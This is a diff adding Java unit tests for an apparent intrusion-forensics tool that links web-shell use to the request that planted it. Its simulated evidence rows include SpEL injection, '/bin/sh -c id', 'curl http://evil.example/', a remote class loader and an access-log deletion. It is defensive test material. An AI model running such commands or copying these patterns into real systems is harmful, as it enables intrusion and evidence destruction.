@@ -1,0 +1,420 @@
+package whorl.collector.analysis;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import java.util.List;
+import java.util.Map;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.ValueSource;
+import whorl.collector.timeline.Row;
+
+/** What a shell does is told with what brought the shell in, and not as a break-in of its own. */
+class UseOfShellTest {
+  private static final String ADDRESS = "203.0.113.7";
+  private static final String NOTHING = "Nothing in this evidence shows";
+  private static final String[] CHAIN = {
+    "org.apache.catalina.core.ApplicationFilterChain.doFilter(ApplicationFilterChain.java:166)",
+    "org.apache.catalina.core.StandardWrapperValve.invoke(StandardWrapperValve.java:197)"
+  };
+
+  private final Rows rows = new Rows();
+
+  private Finding way(String title) throws Exception {
+    Report report = Evidences.report(rows);
+    return Rows.of(report, "way-in").stream()
+        .filter(each -> each.title().equals(title))
+        .findFirst()
+        .orElseThrow(
+            () -> new AssertionError(title + " is not in " + report.findings().toString()));
+  }
+
+  private List<String> ways() throws Exception {
+    return Rows.of(Evidences.report(rows), "way-in").stream().map(Finding::title).toList();
+  }
+
+  private static String[] stack(String... inner) {
+    return java.util.stream.Stream.concat(
+            java.util.Arrays.stream(inner), java.util.Arrays.stream(CHAIN))
+        .toArray(String[]::new);
+  }
+
+  private Row injected(String className) {
+    rows.of("r1", "whorl.ScriptEval", "engine", "spel", "source", "T(java.lang.Runtime).x");
+    Row row = rows.of("r1", "whorl.ClassDefine", "className", className, "origin", "lookup");
+    rows.request("r1", "POST", "/inject", "", ADDRESS, 200);
+    return row;
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "x.Shell",
+        "org.apache.catalina.core.ApplicationFilterChain2",
+        "com.sun.proxy.$Proxy99",
+        "jdk.internal.reflect.GeneratedMethodAccessor88",
+        "org.apache.catalina.filters.Cors",
+        "x.Shell$$Lambda$412",
+        "x.Hidden/0x000078aa14001800",
+      })
+  void use_ofAClassThatARequestBrought_isToldWithThatRequest(String name) throws Exception {
+    Row defined = injected(name);
+    rows.of(
+        "r1",
+        "class.found",
+        "className",
+        name,
+        "definedAt",
+        "2026-11-25T09:35:30.002Z",
+        "findings",
+        List.of(Map.of("kind", "made-class", "severity", "high", "reason", "in no jar")));
+    rows.later(1_000);
+    rows.on(
+        stack(
+            "java.base/java.lang.ProcessBuilder.start(ProcessBuilder.java:1143)",
+            "app//" + name + ".doFilter(Unknown Source)"));
+    rows.of("r2", "whorl.ProcessStart", "command", "/bin/sh -c id", "pid", 7);
+    rows.request("r2", "GET", "/hello", "", ADDRESS, 200);
+
+    Finding use = way("Use of the class " + name.replaceAll("/0x.*", "") + " through GET /hello");
+
+    assertThat(use.severity()).isEqualTo(Severity.CRITICAL);
+    assertThat(use.text())
+        .contains("start /bin/sh -c id", "the request POST /inject defined it")
+        .contains("from bytes that are in no jar at 09:35:30.002.")
+        .doesNotContain(NOTHING);
+    assertThat(use.rows()).contains(defined.id());
+    assertThat(use.techniques()).contains(Technique.WEB_SHELL);
+    assertThat(ways()).hasSize(2).first().asString().contains("POST /inject");
+  }
+
+  @Test
+  void use_ofAClassWhoseStackIsFromTheRecording_isKnownToo() throws Exception {
+    injected("x.Shell");
+    rows.on(
+        "java.lang.ProcessBuilder.start(line 1143)",
+        "x.Shell.doFilter(line 9)",
+        "… deeper frames were not recorded");
+    rows.of("r2", "whorl.ProcessStart", "command", "id", "pid", 7);
+    rows.request("r2", "GET", "/hello", "", ADDRESS, 200);
+
+    assertThat(ways()).contains("Use of the class x.Shell through GET /hello");
+  }
+
+  @Test
+  void use_ofAClassOfOneRequestThatAnotherRegistered_namesBoth() throws Exception {
+    injected("x.Shell");
+    rows.of("r2", "whorl.Registration", "kind", "filter", "className", "x.Shell", "target", "/*");
+    rows.request("r2", "POST", "/register", "", ADDRESS, 200);
+    rows.on(stack("java.lang.ProcessBuilder.start(P.java:1)", "x.Shell.doFilter(S.java:1)"));
+    rows.of("r3", "whorl.ProcessStart", "command", "id", "pid", 7);
+    rows.request("r3", "GET", "/any", "", ADDRESS, 200);
+
+    assertThat(way("Use of the class x.Shell through GET /any").text())
+        .contains("the request POST /inject defined it")
+        .contains("the request POST /register registered it as filter for /*");
+  }
+
+  @Test
+  void aRequestThatAFilterOnlyPassesOn_isNoUseOfIt() throws Exception {
+    injected("x.Shell");
+    rows.on(
+        "java.lang.ProcessBuilder.start(P.java:1)",
+        "shop.Convert.run(Convert.java:7)",
+        "org.apache.catalina.core.ApplicationFilterChain.doFilter(A.java:166)",
+        "x.Shell.doFilter(Unknown Source)",
+        "org.apache.catalina.core.ApplicationFilterChain.doFilter(A.java:166)");
+    rows.of("r2", "whorl.ProcessStart", "command", "/bin/sh -c id", "pid", 7);
+    rows.request("r2", "GET", "/convert", "", ADDRESS, 200);
+
+    assertThat(way("Way in: a command run by a request through GET /convert").text())
+        .contains(NOTHING);
+  }
+
+  @Test
+  void aRequestThatBringsAClassAndRunsIt_isTheWayInItself() throws Exception {
+    rows.of("r1", "whorl.LoaderCreate", "urls", "http://evil.example/a.jar");
+    rows.of("r1", "whorl.ClassDefine", "className", "x.Evil", "origin", "loader");
+    rows.on(stack("java.lang.ProcessBuilder.start(P.java:1)", "x.Evil.<clinit>(E.java:1)"));
+    rows.of("r1", "whorl.ProcessStart", "command", "id", "pid", 7);
+    rows.request("r1", "POST", "/yaml", "", ADDRESS, 200);
+
+    assertThat(ways())
+        .containsExactly("Way in: a class loader with a remote address through POST /yaml");
+  }
+
+  @Test
+  void use_ofAClassThatOnlyTheCaptureFound_isKnown() throws Exception {
+    rows.on(stack("java.lang.ProcessBuilder.start(P.java:1)", "a.Forged.doFilter(F.java:1)"));
+    rows.of("r2", "whorl.ProcessStart", "command", "id", "pid", 7);
+    rows.request("r2", "GET", "/hello", "", ADDRESS, 200);
+    rows.event(
+        "class.found",
+        "name",
+        "a.Forged",
+        "className",
+        "a.Forged",
+        "findings",
+        List.of(
+            Map.of(
+                "kind",
+                "filter",
+                "severity",
+                "critical",
+                "reason",
+                "the place that it says it came from does not have it")));
+
+    assertThat(way("Use of the class a.Forged through GET /hello").text())
+        .contains("the capture says of it: the place that it says it came from does not have it")
+        .doesNotContain(NOTHING);
+  }
+
+  @Test
+  void use_ofAClassLoadedOverTheNetwork_isKnown() throws Exception {
+    rows.of("r1", "whorl.ClassLoad", "className", "Evil", "codeSource", "http://evil.example/");
+    rows.request("r1", "GET", "/log", "", ADDRESS, 200);
+    rows.on(stack("java.lang.ProcessBuilder.start(P.java:1)", "Evil.run(E.java:1)"));
+    rows.of("r2", "whorl.ProcessStart", "command", "id", "pid", 7);
+    rows.request("r2", "GET", "/hello", "", ADDRESS, 200);
+
+    assertThat(way("Use of the class Evil through GET /hello").text())
+        .contains("loaded it from http://evil.example/");
+  }
+
+  @Test
+  void use_byAThread_isToldWithTheRequestThatBroughtItsClass() throws Exception {
+    injected("x.Worker");
+    rows.thread("Timer-7").on("java.lang.ProcessBuilder.start(P.java:1)", "x.Worker.run(W.java:1)");
+    rows.event("whorl.ProcessStart", "command", "curl http://evil.example/", "pid", 7);
+    rows.thread("Timer-7").on("java.lang.ProcessBuilder.start(P.java:1)", "x.Worker.run(W.java:1)");
+    rows.event("whorl.ProcessStart", "command", "id", "pid", 8);
+
+    Finding use = way("Use of the class x.Worker by the thread Timer-7");
+
+    assertThat(use.severity()).isEqualTo(Severity.CRITICAL);
+    assertThat(use.text())
+        .contains("start curl http://evil.example/, and start id")
+        .contains("the request POST /inject defined it");
+    assertThat(use.rows()).hasSize(3);
+    assertThat(ways()).hasSize(2);
+  }
+
+  @ParameterizedTest
+  @CsvSource({
+    "/opt/tomcat/webapps/ROOT/tomcatwar.jsp, /tomcatwar.jsp",
+    "/opt/tomcat/webapps/shop/up/a-b.jsp, /shop/up/a-b.jsp;jsessionid=1",
+    "/srv/site/up/a.jsp, /ctx/up/a.jsp",
+  })
+  void use_ofAPageThatARequestWrote_isToldWithThatRequest(String file, String path)
+      throws Exception {
+    rows.of("r1", "whorl.FileOpen", "path", file, "access", "write", "created", true);
+    rows.request("r1", "POST", "/upload", "", ADDRESS, 200);
+    rows.later(5_000);
+    rows.of("r2", "whorl.ProcessStart", "command", "id", "pid", 7);
+    rows.request("r2", "GET", path, "pwd=j", ADDRESS, 200);
+
+    Finding use = way("Use of the page " + file + " through GET " + path);
+
+    assertThat(use.text()).contains("the request POST /upload wrote it at 09:35:30.001");
+    assertThat(way("Way in: a file of code written through POST /upload").severity())
+        .isEqualTo(Severity.CRITICAL);
+    assertThat(way("Way in: a file of code written through POST /upload").text())
+        .contains("was used later on")
+        .doesNotContain(NOTHING);
+    Report report = Evidences.report(rows);
+    assertThat(report.summary())
+        .contains("The gravest way in began at 2026-11-25 09:35:29")
+        .contains("a file of code written through POST /upload")
+        .doesNotContain(NOTHING);
+  }
+
+  @Test
+  void use_ofAPageThatIsReachedByAnotherPath_isKnownByJaspersFrames() throws Exception {
+    rows.of(
+        "r1",
+        "whorl.FileOpen",
+        "path",
+        "/opt/webapps/ROOT/in-dex.jsp",
+        "access",
+        "write",
+        "created",
+        true);
+    rows.request("r1", "PUT", "/in-dex.jsp/", "", ADDRESS, 201);
+    rows.on(
+        "java.lang.ProcessBuilder.start(P.java:1)",
+        "org.apache.jsp.in_002ddex_jsp._jspService(in_002ddex_jsp.java:120)",
+        "org.apache.jasper.runtime.HttpJspBase.service(HttpJspBase.java:70)",
+        "javax.servlet.http.HttpServlet.service(HttpServlet.java:764)");
+    rows.of("r2", "whorl.ProcessStart", "command", "id", "pid", 7);
+    rows.request("r2", "GET", "/", "", ADDRESS, 200);
+
+    assertThat(ways()).contains("Use of the page /opt/webapps/ROOT/in-dex.jsp through GET /");
+  }
+
+  @Test
+  void compilingAPage_isPartOfItsUse_andNoDeedOfItsOwn() throws Exception {
+    String work = "/opt/tomcat/work/Catalina/localhost/ROOT/org/apache/jsp/a_jsp.";
+    rows.of("r1", "whorl.FileOpen", "path", "/opt/tomcat/webapps/ROOT/a.jsp", "access", "write");
+    rows.request("r1", "POST", "/upload", "", ADDRESS, 200);
+    String[] compiler = {
+      "java.io.FileOutputStream.<init>(FileOutputStream.java:235)",
+      "org.apache.jasper.compiler.Compiler.generateJava(Compiler.java:233)",
+      "org.apache.jasper.JspCompilationContext.compile(JspCompilationContext.java:600)",
+      "org.apache.jasper.servlet.JspServlet.service(JspServlet.java:331)"
+    };
+    rows.on(stack(compiler));
+    Row written =
+        rows.of("r2", "whorl.FileOpen", "path", work + "java", "access", "write", "created", true);
+    rows.on(stack(compiler));
+    rows.of("r2", "whorl.FileDelete", "path", work + "java");
+    rows.on(stack(compiler));
+    rows.of("r2", "whorl.FileOpen", "path", work + "class", "access", "write", "created", true);
+    rows.on(
+        stack(
+            "java.lang.ProcessBuilder.start(P.java:1)",
+            "org.apache.jsp.a_jsp._jspService(a_jsp.java:120)"));
+    rows.of("r2", "whorl.ProcessStart", "command", "id", "pid", 7);
+    rows.request("r2", "GET", "/a.jsp", "", ADDRESS, 200);
+
+    Report report = Evidences.report(rows);
+
+    assertThat(Rows.of(report, "files-written"))
+        .extracting(Finding::title)
+        .containsExactly("Wrote /opt/tomcat/webapps/ROOT/a.jsp");
+    assertThat(report.findings())
+        .noneMatch(each -> each.techniques().contains(Technique.FILE_DELETION));
+    Finding use = way("Use of the page /opt/tomcat/webapps/ROOT/a.jsp through GET /a.jsp");
+    assertThat(use.text()).contains("2 files of its work folder are the compiler's own");
+    assertThat(use.rows()).contains(written.id());
+  }
+
+  @Test
+  void whatAShellDeletesBesideThePage_isItsOwnDeed() throws Exception {
+    rows.of("r1", "whorl.FileOpen", "path", "/opt/webapps/ROOT/a.jsp", "access", "write");
+    rows.request("r1", "POST", "/upload", "", ADDRESS, 200);
+    rows.on(
+        stack("java.io.File.delete(F.java:1)", "org.apache.jsp.a_jsp._jspService(a_jsp.java:9)"));
+    rows.of("r2", "whorl.FileDelete", "path", "/var/log/tomcat/access.log");
+    rows.on(stack("java.lang.ProcessBuilder.start(P.java:1)", "org.apache.jsp.a_jsp.x(a.java:1)"));
+    rows.of("r2", "whorl.ProcessStart", "command", "id", "pid", 7);
+    rows.request("r2", "GET", "/a.jsp", "", ADDRESS, 200);
+
+    assertThat(Rows.of(Evidences.report(rows), "files-written"))
+        .anyMatch(each -> each.title().equals("Deleted /var/log/tomcat/access.log"));
+  }
+
+  @Test
+  void aClassThatNoRequestBrought_mayBeALibrarys_andIsOnlyNamed() throws Exception {
+    rows.event("whorl.ClassDefine", "className", "shop.Cart$$Fast", "origin", "lookup");
+    rows.on(
+        stack(
+            "java.lang.ProcessBuilder.start(P.java:1)",
+            "shop.Cart.print(Cart.java:1)",
+            "shop.Cart$$Fast.print(Unknown Source)"));
+    rows.of("r2", "whorl.ProcessStart", "command", "/bin/sh -c id", "pid", 7);
+    rows.request("r2", "GET", "/cart", "", ADDRESS, 200);
+
+    assertThat(way("Way in: a command run by a request through GET /cart").text())
+        .contains("The class shop.Cart$$Fast: the thread main defined it")
+        .contains("does not know whether a library made it")
+        .doesNotContain(NOTHING);
+  }
+
+  @Test
+  void aNameThatAnOrdinaryClassHasToo_provesNothing() throws Exception {
+    injected("shop.Convert");
+    rows.event("whorl.ClassLoad", "className", "shop.Convert", "codeSource", "file:/app/shop.jar");
+    rows.on(stack("java.lang.ProcessBuilder.start(P.java:1)", "shop.Convert.run(C.java:1)"));
+    rows.of("r2", "whorl.ProcessStart", "command", "/bin/sh -c id", "pid", 7);
+    rows.request("r2", "GET", "/convert", "", ADDRESS, 200);
+
+    assertThat(ways()).contains("Way in: a command run by a request through GET /convert");
+  }
+
+  @Test
+  void aPageThatTheServerUnpacked_isTheApplications() throws Exception {
+    rows.on("java.io.F.x(F.java:1)", "org.apache.catalina.startup.ExpandWar.expand(E.java:1)");
+    rows.event("whorl.FileOpen", "path", "/opt/webapps/a/run.jsp", "access", "write");
+    rows.on(
+        stack("java.lang.ProcessBuilder.start(P.java:1)", "org.apache.jsp.run_jsp.x(r.java:1)"));
+    rows.of("r2", "whorl.ProcessStart", "command", "/bin/sh -c id", "pid", 7);
+    rows.request("r2", "GET", "/a/run.jsp", "", ADDRESS, 200);
+
+    assertThat(ways()).containsExactly("Way in: a command run by a request through GET /a/run.jsp");
+  }
+
+  @Test
+  void aPageOfTheSameNameInAnotherFolder_isAnotherPage() throws Exception {
+    rows.of("r1", "whorl.FileOpen", "path", "/opt/webapps/a/up/run.jsp", "access", "write");
+    rows.request("r1", "POST", "/upload", "", ADDRESS, 200);
+    rows.on(
+        stack("java.lang.ProcessBuilder.start(P.java:1)", "org.apache.jsp.admin.run_jsp.x(r:1)"));
+    rows.of("r2", "whorl.ProcessStart", "command", "/bin/sh -c id", "pid", 7);
+    rows.request("r2", "GET", "/a/admin/run.jsp", "", ADDRESS, 200);
+
+    assertThat(ways()).contains("Way in: a command run by a request through GET /a/admin/run.jsp");
+  }
+
+  @Test
+  void aClassOfTheApplicationThatIsRegisteredForARequest_isNoShell() throws Exception {
+    rows.of("r1", "whorl.Registration", "kind", "servlet", "className", "shop.Convert");
+    rows.request("r1", "GET", "/manager/reload", "", "10.0.0.1", 200);
+    rows.on(stack("java.lang.ProcessBuilder.start(P.java:1)", "shop.Convert.doGet(C.java:1)"));
+    rows.of("r2", "whorl.ProcessStart", "command", "/bin/sh -c id", "pid", 7);
+    rows.request("r2", "GET", "/convert", "", ADDRESS, 200);
+
+    assertThat(way("Way in: a command run by a request through GET /convert").text())
+        .contains(NOTHING);
+  }
+
+  @Test
+  void aHiddenClass_whoseFramesAreOnNoStack_isNamedAsWhatMayHaveDoneIt() throws Exception {
+    rows.of(
+        "r1",
+        "whorl.ClassDefine",
+        "className",
+        "x.Hidden/0x0001",
+        "origin",
+        "hidden",
+        "hidden",
+        true);
+    rows.alert("r1", "Class Defined", "high");
+    rows.request("r1", "POST", "/inject", "", ADDRESS, 200);
+    rows.on(stack("java.lang.ProcessBuilder.start(P.java:1)"));
+    rows.of("r2", "whorl.ProcessStart", "command", "/bin/sh -c id", "pid", 7);
+    rows.request("r2", "GET", "/any", "", ADDRESS, 200);
+
+    assertThat(way("Way in: a command run by a request through GET /any").text())
+        .contains("A hidden class came in before", "x.Hidden: the request POST /inject defined it")
+        .doesNotContain(NOTHING);
+  }
+
+  @Test
+  void anAlertWhoseStackHasTheShell_isItsUse() throws Exception {
+    injected("x.Shell");
+    rows.on(stack("java.net.Socket.connect(S.java:1)", "x.Shell.doFilter(S.java:1)"));
+    rows.alert("r2", "Connection to a Strange Port", "high");
+    rows.request("r2", "GET", "/hello", "", ADDRESS, 200);
+
+    assertThat(way("Use of the class x.Shell through GET /hello").text())
+        .contains("do what the rule \"Connection to a Strange Port\" looks for");
+  }
+
+  @Test
+  void summary_beginsAtTheFirstWayInOfTheChain_notAtTheServersStart() throws Exception {
+    rows.event("whorl.JndiLookup", "name", "ldap://directory.corp/cn=shop");
+    rows.later(60_000);
+    injected("x.Shell");
+    rows.later(1_000);
+    rows.on(stack("java.lang.ProcessBuilder.start(P.java:1)", "x.Shell.doFilter(S.java:1)"));
+    rows.of("r2", "whorl.ProcessStart", "command", "id", "pid", 7);
+    rows.request("r2", "GET", "/hello", "", ADDRESS, 200);
+
+    assertThat(Evidences.report(rows).summary())
+        .contains("The gravest way in began at 2026-11-25 09:36:29.984 UTC")
+        .contains(
+            "expression injection through POST /inject, by 203.0.113.7; there was also use of")
+        .contains("Between 09:36:29.984 and ");
+  }
+}
